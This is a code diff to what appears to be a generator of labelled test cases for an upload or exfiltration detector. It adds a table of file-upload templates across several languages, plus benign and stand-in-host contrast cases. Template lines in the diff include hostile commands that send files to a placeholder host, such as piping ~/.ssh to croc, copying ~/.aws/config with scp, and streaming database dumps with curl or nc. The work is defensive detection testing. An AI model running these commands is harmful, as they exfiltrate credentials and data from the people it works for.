@@ -42,6 +42,10 @@ HELD_OUT = {
     "shape-array",
     "shape-ifs",
     "shape-runner",
+    "code-py-pycurl",
+    "code-deno-bun",
+    "code-php",
+    "code-csharp",
 }
 
 HOSTS = [
@@ -136,7 +140,7 @@ def tools(rng):
             ("aws s3api upload-part --bucket {b} --key big --part-number 1 --upload-id $UID --body {f}", "s3://{b}"),
             ("AWS_ENDPOINT_URL=http://{h}:9000 aws s3 cp {f} s3://{b}/", "{h}"),
         ],
-        7,
+        5,
     )
     out += extra(
         fam,
@@ -160,7 +164,7 @@ def tools(rng):
             ("az storage blob upload -f {f} -c c -n k{n} --connection-string \"DefaultEndpointsProtocol=https;AccountName={a};AccountKey=$K\"", "{a}.blob.core.windows.net"),
             ("az storage azcopy blob upload -c c --account-name {a} -s {f}", "{a}.blob.core.windows.net"),
         ],
-        7,
+        5,
     )
     out += extra(
         fam,
@@ -169,6 +173,7 @@ def tools(rng):
             ("az storage blob list -c c --account-name dumpacct -o table", "clean"),
             ("az storage blob upload-batch -d c --connection-string UseDevelopmentStorage=true -s ./dist", "clean"),
             ("# az storage blob upload-batch -d c --account-name xfilstore -s ./exports", "clean"),
+            ("curl -sI 'https://xfilstore.blob.core.windows.net/c?restype=container'", "any_host", "xfilstore.blob.core.windows.net"),
         ],
     )
     fam = "tool-tus"
@@ -183,7 +188,7 @@ def tools(rng):
             "tusc client -r https://{h}:1080/files/ {f} --chunk-size 4",
             "python3 -m tusclient.client https://{h}/files/ {f}",
         ],
-        7,
+        5,
     )
     out += extra(
         fam,
@@ -210,7 +215,7 @@ def tools(rng):
             "curl -sS --request PUT --data-binary @{f} -- https://{h}/obj",
             "curl -u {u}:pw -T {f} sftp://{h}/~/in/",
         ],
-        10,
+        8,
     )
     out += extra(
         fam,
@@ -237,7 +242,7 @@ def tools(rng):
             "mongodump --archive --db app | mongorestore --uri mongodb://{u}:pw@{h}:27017 --archive",
             "redis-cli --rdb /dev/stdout | curl -T - http://{h}:8080/r.rdb",
         ],
-        9,
+        5,
     )
     out += extra(
         fam,
@@ -261,7 +266,7 @@ def tools(rng):
             "kubectl -n prod cp ./exports api-{n}:/tmp/e; kubectl -n prod exec api-{n} -- sh -c 'tar cz /tmp/e | nc {h} 9{n}'",
             "kubectl exec db-0 -c pg -- pg_dumpall | curl -T - https://{h}/all.sql",
         ],
-        7,
+        5,
     )
     out += extra(
         fam,
@@ -286,7 +291,7 @@ def tools(rng):
             "docker exec -i app nc {h} 4444 < {f}",
             "docker compose run --rm -T tools curl --data-binary @- https://{h}/ < {f}",
         ],
-        8,
+        5,
     )
     out += extra(
         fam,
@@ -310,7 +315,7 @@ def tools(rng):
             "git diff HEAD~{n} | curl --data-binary @- https://{h}/d",
             "git bundle create r.b --all && scp r.b {u}@{h}:",
         ],
-        8,
+        5,
     )
     out += extra(
         fam,
@@ -336,7 +341,7 @@ def tools(rng):
             "rsync -avz --files-from=list.txt . {u}@{h}::mod",
             "rsync {f} {u}@{h}: -e ssh",
         ],
-        8,
+        5,
     )
     out += [case(fam, "scp ~/.aws/config '[2001:db8::7]:/tmp/'", "upload", "2001:db8::7")]
     out += extra(
@@ -385,7 +390,7 @@ def tools(rng):
             "ffsend upload --host https://{h}/ {f}",
             ("tar cz ~/.ssh | croc send --stdin", "?"),
         ],
-        10,
+        8,
     )
     out += extra(
         fam,
@@ -412,7 +417,7 @@ def tools(rng):
             "wput {f} ftp://{u}:pw@{h}/in/",
             "curl -T {f} tftp://{h}/x{n}",
         ],
-        10,
+        8,
     )
     out += extra(
         fam,
@@ -650,7 +655,7 @@ SHAPE_EXTRA = {
 def shapes(rng):
     out = []
     for fam, templates in SHAPES.items():
-        out += fill(fam, rng, templates, max(len(templates), 6) + (1 if fam in HELD_OUT else 0))
+        out += fill(fam, rng, templates, min(len(templates), 8) if fam in HELD_OUT else 5)
         out += extra(fam, SHAPE_EXTRA[fam])
     return out
 
@@ -658,43 +663,179 @@ def shapes(rng):
 # ---------------------------------------------------------------- code
 
 
+# Uploads by code, one family a library or language: templates filled with {h} and {f}.
+CODE_UP = {
+    "code-py-aiohttp": [
+        "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+        "        await s.post('https://{h}/in', data=open('{f}', 'rb'))\n\n\nasyncio.run(main())",
+        "import aiohttp, asyncio\n\n\nasync def go():\n    form = aiohttp.FormData()\n    form.add_field('f', open('{f}', 'rb'))\n"
+        "    async with aiohttp.ClientSession(base_url='http://{h}:8080') as s:\n        await s.put('/u', data=form)\n\n\nasyncio.run(go())",
+        "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+        "        ws = await s.ws_connect('wss://{h}/ws')\n        await ws.send_bytes(open('{f}', 'rb').read())\n\n\nasyncio.run(main())",
+    ],
+    "code-py-httpx": [
+        "import httpx\nwith httpx.Client(base_url='https://{h}') as c:\n    c.post('/u', files={'f': open('{f}', 'rb')})",
+        "import httpx\nwith httpx.stream('PUT', 'https://{h}/obj', content=open('{f}', 'rb')) as r:\n    r.read()",
+        "import asyncio, httpx\n\n\nasync def main():\n    async with httpx.AsyncClient() as c:\n"
+        "        await c.patch('https://{h}/p', data={'d': open('{f}').read()})\n\n\nasyncio.run(main())",
+        "import httpx\nreq = httpx.Request('POST', 'http://{h}:8000/x', content=open('{f}', 'rb').read())\nhttpx.Client().send(req)",
+    ],
+    "code-py-ftplib": [
+        "from ftplib import FTP_TLS\nwith FTP_TLS('{h}') as ftp:\n    ftp.login('u', 'p')\n    ftp.prot_p()\n    ftp.storbinary('STOR x', open('{f}', 'rb'))",
+        "import ftplib\nftp = ftplib.FTP()\nftp.connect('{h}', 2121)\nftp.login()\nftp.storlines('STOR notes.txt', open('{f}', 'rb'))",
+        "from ftplib import FTP\nimport io\nwith FTP('{h}', 'anonymous', 'a@b') as f:\n    f.storbinary('APPE log', io.BytesIO(open('{f}', 'rb').read()))",
+    ],
+    "code-py-urllib3": [
+        "import urllib3\nurllib3.PoolManager().request('POST', 'https://{h}/u', body=open('{f}', 'rb').read())",
+        "import urllib3\nurllib3.request('PUT', 'https://{h}/k', body=open('{f}', 'rb'))",
+        "import urllib3\npool = urllib3.HTTPSConnectionPool('{h}', port=443)\npool.urlopen('POST', '/x', body=open('{f}').read())",
+        "import urllib3\nhttp = urllib3.PoolManager()\nhttp.request('POST', 'http://{h}/f', fields={'f': ('x.bin', open('{f}', 'rb').read())})",
+    ],
+    "code-py-pycurl": [
+        "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://{h}/u')\nc.setopt(c.UPLOAD, 1)\nc.setopt(c.READDATA, open('{f}', 'rb'))\nc.perform()",
+        "import pycurl\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'http://{h}/form')\nc.setopt(pycurl.HTTPPOST, [('f', (pycurl.FORM_FILE, '{f}'))])\nc.perform()",
+        "import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://{h}/p')\nc.setopt(c.POSTFIELDS, open('{f}').read())\nc.perform()\nc.close()",
+        "import pycurl\nfrom io import BytesIO\nc = pycurl.Curl()\nc.setopt(c.URL, 'ftp://{h}/in/x')\nc.setopt(c.UPLOAD, True)\n"
+        "c.setopt(c.READFUNCTION, BytesIO(open('{f}', 'rb').read()).read)\nc.perform()",
+    ],
+    "code-node-fetchlibs": [
+        "import { request } from 'undici';\nimport { createReadStream } from 'node:fs';\nawait request('https://{h}/u', { method: 'POST', body: createReadStream('{f}') });",
+        "const { fetch } = require('undici');\nawait fetch('https://{h}/k', { method: 'PUT', body: require('fs').readFileSync('{f}') });",
+        "const undici = require('undici');\nconst c = new undici.Client('https://{h}');\nawait c.request({ path: '/x', method: 'PUT', body: require('fs').createReadStream('{f}') });",
+        "import fetch from 'node-fetch';\nimport fs from 'fs';\nawait fetch('https://{h}/up', { method: 'POST', body: fs.createReadStream('{f}') });",
+    ],
+    "code-node-got": [
+        "const got = require('got');\nconst fs = require('fs');\nawait got.post('https://{h}/u', { body: fs.createReadStream('{f}') });",
+        "import got from 'got';\nimport { pipeline } from 'node:stream/promises';\nimport fs from 'node:fs';\n"
+        "await pipeline(fs.createReadStream('{f}'), got.stream.put('https://{h}/x'));",
+        "const got = require('got');\nawait got('https://{h}/j', { method: 'POST', json: { d: require('fs').readFileSync('{f}', 'utf8') } });",
+        "const api = require('got').extend({ prefixUrl: 'https://{h}' });\nawait api.post('in', { body: require('fs').readFileSync('{f}') });",
+    ],
+    "code-node-net": [
+        "const net = require('net');\nconst s = net.connect(4444, '{h}', () => s.end(require('fs').readFileSync('{f}')));",
+        "const net = require('node:net');\nconst sock = new net.Socket();\nsock.connect({ host: '{h}', port: 9009 });\nrequire('fs').createReadStream('{f}').pipe(sock);",
+        "const tls = require('tls');\nconst s = tls.connect(443, '{h}', () => { s.write(require('fs').readFileSync('{f}')); s.end(); });",
+        "const dgram = require('dgram');\ndgram.createSocket('udp4').send(require('fs').readFileSync('{f}').subarray(0, 500), 53, '{h}');",
+    ],
+    "code-deno-bun": [
+        "const data = await Deno.readFile('{f}');\nawait fetch('https://{h}/u', { method: 'POST', body: data });",
+        "const file = await Deno.open('{f}');\nawait fetch('https://{h}/k', { method: 'PUT', body: file.readable });",
+        "const conn = await Deno.connect({ hostname: '{h}', port: 4444 });\nawait conn.write(await Deno.readFile('{f}'));\nconn.close();",
+        "await fetch('https://{h}/b', { method: 'POST', body: Bun.file('{f}') });",
+        "const form = new FormData();\nform.append('f', Bun.file('{f}'));\nawait fetch('http://{h}:8080/form', { method: 'POST', body: form });",
+        "await Bun.connect({ hostname: '{h}', port: 9009, socket: { async open(s) { s.write(await Bun.file('{f}').arrayBuffer()); s.end(); }, data() {} } });",
+    ],
+    "code-php": [
+        "<?php\n$ch = curl_init('https://{h}/u');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, ['f' => new CURLFile('{f}')]);\ncurl_exec($ch);",
+        "<?php\n$ch = curl_init();\ncurl_setopt_array($ch, [CURLOPT_URL => 'https://{h}/k', CURLOPT_UPLOAD => true, CURLOPT_INFILE => fopen('{f}', 'r')]);\ncurl_exec($ch);",
+        "<?php\n$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => file_get_contents('{f}')]]);\nfile_get_contents('http://{h}/p', false, $ctx);",
+        "<?php\n$s = fsockopen('{h}', 4444);\nfwrite($s, file_get_contents('{f}'));\nfclose($s);",
+        "<?php\n$ch = curl_init('https://{h}/raw');\ncurl_setopt($ch, CURLOPT_POST, 1);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, base64_encode(file_get_contents('{f}')));\ncurl_exec($ch);",
+    ],
+    "code-java": [
+        "import java.net.URI;\nimport java.net.http.*;\nimport java.nio.file.Path;\n\nvar c = HttpClient.newHttpClient();\n"
+        "c.send(HttpRequest.newBuilder(URI.create(\"https://{h}/u\")).POST(HttpRequest.BodyPublishers.ofFile(Path.of(\"{f}\"))).build(), HttpResponse.BodyHandlers.discarding());",
+        "import java.net.Socket;\nimport java.nio.file.*;\n\ntry (var s = new Socket(\"{h}\", 4444)) {\n    s.getOutputStream().write(Files.readAllBytes(Path.of(\"{f}\")));\n}",
+        "import java.net.*;\nimport java.nio.file.*;\n\nvar con = (HttpURLConnection) new URL(\"https://{h}/p\").openConnection();\ncon.setDoOutput(true);\n"
+        "con.setRequestMethod(\"PUT\");\nFiles.copy(Path.of(\"{f}\"), con.getOutputStream());\ncon.getResponseCode();",
+        "import java.net.URI;\nimport java.net.http.*;\nimport java.nio.file.*;\n\nHttpClient.newHttpClient().sendAsync(HttpRequest.newBuilder()"
+        ".uri(URI.create(\"http://{h}:8080/x\")).PUT(HttpRequest.BodyPublishers.ofString(Files.readString(Path.of(\"{f}\")))).build(), HttpResponse.BodyHandlers.ofString()).join();",
+    ],
+    "code-csharp": [
+        "using var c = new HttpClient();\nawait c.PostAsync(\"https://{h}/u\", new StreamContent(File.OpenRead(\"{f}\")));",
+        "using var c = new HttpClient();\nvar form = new MultipartFormDataContent();\nform.Add(new ByteArrayContent(File.ReadAllBytes(\"{f}\")), \"f\", \"x\");\nawait c.PostAsync(\"https://{h}/form\", form);",
+        "new System.Net.WebClient().UploadFile(\"https://{h}/up\", \"{f}\");",
+        "using var t = new System.Net.Sockets.TcpClient(\"{h}\", 4444);\nt.GetStream().Write(File.ReadAllBytes(\"{f}\"));",
+        "var c = new HttpClient { BaseAddress = new Uri(\"http://{h}:8080/\") };\nawait c.PutAsync(\"k\", new StringContent(File.ReadAllText(\"{f}\")));",
+    ],
+    "code-rust": [
+        "fn main() -> Result<(), Box<dyn std::error::Error>> {\n    reqwest::blocking::Client::new().post(\"https://{h}/u\").body(std::fs::read(\"{f}\")?).send()?;\n    Ok(())\n}",
+        "#[tokio::main]\nasync fn main() -> anyhow::Result<()> {\n    let file = tokio::fs::File::open(\"{f}\").await?;\n"
+        "    let body = reqwest::Body::wrap_stream(tokio_util::io::ReaderStream::new(file));\n    reqwest::Client::new().put(\"https://{h}/k\").body(body).send().await?;\n    Ok(())\n}",
+        "use std::io::Write;\n\nfn main() -> std::io::Result<()> {\n    let mut s = std::net::TcpStream::connect(\"{h}:4444\")?;\n    s.write_all(&std::fs::read(\"{f}\")?)\n}",
+        "fn main() -> Result<(), Box<dyn std::error::Error>> {\n    let form = reqwest::blocking::multipart::Form::new().file(\"f\", \"{f}\")?;\n"
+        "    reqwest::blocking::Client::new().post(\"http://{h}:8080/form\").multipart(form).send()?;\n    Ok(())\n}",
+    ],
+}
+CODE_EXTRA = {
+    "code-py-aiohttp": [
+        ("import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+         "        async with s.get('https://corp.example.com/api/items') as r:\n            print(await r.json())\n\n\nasyncio.run(main())", "clean"),
+        ("import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+         "        await s.post('http://127.0.0.1:8000/ingest', data=open('metrics.json', 'rb'))\n\n\nasyncio.run(main())", "clean"),
+        ("import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
+         "        await s.get('https://collector.shadyco.invalid/health')\n\n\nasyncio.run(main())", "any_host", "collector.shadyco.invalid"),
+    ],
+    "code-py-httpx": [
+        ("import httpx\nprint(httpx.get('https://corp.example.com/api').json())", "clean"),
+        ("import httpx\nhttpx.post('http://localhost:8000/x', files={'f': open('report.pdf', 'rb')})", "clean"),
+        ("import httpx\nhttpx.head('https://203.0.113.19/')", "any_host", "203.0.113.19"),
+    ],
+    "code-py-ftplib": [
+        ("from ftplib import FTP\nwith FTP('localhost') as ftp:\n    ftp.login()\n    ftp.storbinary('STOR b.tgz', open('build.tgz', 'rb'))", "clean"),
+        ("# ftp.storbinary('STOR x', fh) uploads fh\nprint('see ftplib docs')", "clean"),
+        ("from ftplib import FTP\nwith FTP('vault-sync.badhost.test') as ftp:\n    ftp.login()\n    print(ftp.nlst())", "any_host", "vault-sync.badhost.test"),
+    ],
+    "code-py-urllib3": [
+        ("import urllib3\nprint(urllib3.PoolManager().request('GET', 'https://corp.example.com/api').data)", "clean"),
+        ("import urllib3\nurllib3.request('POST', 'http://127.0.0.1:9000/x', body=open('m.json', 'rb').read())", "clean"),
+        ("import urllib3\nurllib3.request('GET', 'https://in.siphon.test/')", "any_host", "in.siphon.test"),
+    ],
+    "code-py-pycurl": [
+        ("import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://corp.example.com/files/x')\nc.setopt(c.WRITEDATA, open('x', 'wb'))\nc.perform()", "clean"),
+        ("import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'http://localhost:8080/u')\nc.setopt(c.UPLOAD, 1)\nc.setopt(c.READDATA, open('a.log', 'rb'))\nc.perform()", "clean"),
+        ("import pycurl\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://bucket-proxy.example.net/')\nc.perform()", "any_host", "bucket-proxy.example.net"),
+    ],
+    "code-node-fetchlibs": [
+        ("const { request } = require('undici');\nconst r = await request('https://corp.example.com/api');\nconsole.log(await r.body.json());", "clean"),
+        ("import fetch from 'node-fetch';\nawait fetch('http://127.0.0.1:3000/in', { method: 'POST', body: '{}' });", "clean"),
+        ("const { fetch } = require('undici');\nawait fetch('https://198.51.100.9/v');", "any_host", "198.51.100.9"),
+    ],
+    "code-node-got": [
+        ("const got = require('got');\nconsole.log(await got('https://corp.example.com/api').json());", "clean"),
+        ("// got.post(url, { body: fs.createReadStream(file) }) streams a file\nconsole.log('docs');", "clean"),
+        ("const got = require('got');\nawait got('https://vault-sync.badhost.test/ping');", "any_host", "vault-sync.badhost.test"),
+    ],
+    "code-node-net": [
+        ("const net = require('net');\nnet.createServer(s => s.pipe(s)).listen(9000, '127.0.0.1');", "clean"),
+        ("const net = require('net');\nconst s = net.connect(6379, 'localhost', () => s.end('PING\\r\\n'));", "clean"),
+        ("const net = require('net');\nnet.connect(443, 'in.siphon.test').end();", "any_host", "in.siphon.test"),
+    ],
+    "code-deno-bun": [
+        ("const r = await fetch('https://corp.example.com/api');\nconsole.log(await r.json());", "clean"),
+        ("await fetch('http://localhost:8000/in', { method: 'POST', body: await Deno.readFile('m.json') });", "clean"),
+        ("await Bun.write('out.txt', Bun.file('in.txt'));", "clean"),
+        ("await fetch('https://collector.shadyco.invalid/');", "any_host", "collector.shadyco.invalid"),
+    ],
+    "code-php": [
+        ("<?php\necho file_get_contents('https://corp.example.com/api');", "clean"),
+        ("<?php\n$ch = curl_init('http://127.0.0.1:8080/u');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, ['f' => new CURLFile('a.log')]);\ncurl_exec($ch);", "clean"),
+        ("<?php\n// curl_setopt($ch, CURLOPT_POSTFIELDS, ...) sends the body\necho 'ok';", "clean"),
+        ("<?php\nfile_get_contents('https://203.0.113.19/');", "any_host", "203.0.113.19"),
+    ],
+    "code-java": [
+        ("import java.net.URI;\nimport java.net.http.*;\n\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"https://corp.example.com/api\")).build(), HttpResponse.BodyHandlers.ofString());", "clean"),
+        ("import java.net.Socket;\n\nnew Socket(\"localhost\", 5432).close();", "clean"),
+        ("import java.net.URI;\nimport java.net.http.*;\n\nHttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"https://bucket-proxy.example.net/\")).build(), HttpResponse.BodyHandlers.discarding());", "any_host", "bucket-proxy.example.net"),
+    ],
+    "code-csharp": [
+        ("using var c = new HttpClient();\nConsole.WriteLine(await c.GetStringAsync(\"https://corp.example.com/api\"));", "clean"),
+        ("using var c = new HttpClient();\nawait c.PostAsync(\"http://localhost:5000/in\", new StreamContent(File.OpenRead(\"a.log\")));", "clean"),
+        ("using var c = new HttpClient();\nawait c.GetAsync(\"https://198.51.100.9/\");", "any_host", "198.51.100.9"),
+    ],
+    "code-rust": [
+        ("fn main() {\n    let body = reqwest::blocking::get(\"https://corp.example.com/api\").unwrap().text().unwrap();\n    println!(\"{body}\");\n}", "clean"),
+        ("fn main() {\n    let l = std::net::TcpListener::bind(\"127.0.0.1:8080\").unwrap();\n    for s in l.incoming() { drop(s); }\n}", "clean"),
+        ("fn main() {\n    reqwest::blocking::get(\"https://vault-sync.badhost.test/\").unwrap();\n}", "any_host", "vault-sync.badhost.test"),
+    ],
+}
+
+
 def code(rng):
     out = []
-    fam = "code-py-aiohttp"
-    out += fill(
-        fam,
-        rng,
-        [
-            "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
-            "        await s.post('https://{h}/in', data=open('{f}', 'rb'))\n\n\nasyncio.run(main())",
-            "import aiohttp, asyncio\n\n\nasync def go():\n    form = aiohttp.FormData()\n    form.add_field('f', open('{f}', 'rb'))\n"
-            "    async with aiohttp.ClientSession(base_url='http://{h}:8080') as s:\n        await s.put('/u', data=form)\n\n\nasyncio.run(go())",
-        ],
-        5,
-        CODE,
-    )
-    out += extra(
-        fam,
-        [
-            (
-                "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
-                "        async with s.get('https://corp.example.com/api/items') as r:\n            print(await r.json())\n\n\nasyncio.run(main())",
-                "clean",
-            ),
-            (
-                "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
-                "        await s.post('http://127.0.0.1:8000/ingest', data=open('metrics.json', 'rb'))\n\n\nasyncio.run(main())",
-                "clean",
-            ),
-            (
-                "import aiohttp, asyncio\n\n\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
-                "        await s.get('https://collector.shadyco.invalid/health')\n\n\nasyncio.run(main())",
-                "any_host",
-                "collector.shadyco.invalid",
-            ),
-        ],
-        CODE,
-    )
+    for fam, templates in CODE_UP.items():
+        out += fill(fam, rng, templates, max(len(templates), 4) + (1 if fam in HELD_OUT else 0), CODE)
+        out += extra(fam, CODE_EXTRA[fam], CODE)
     return out
 
 
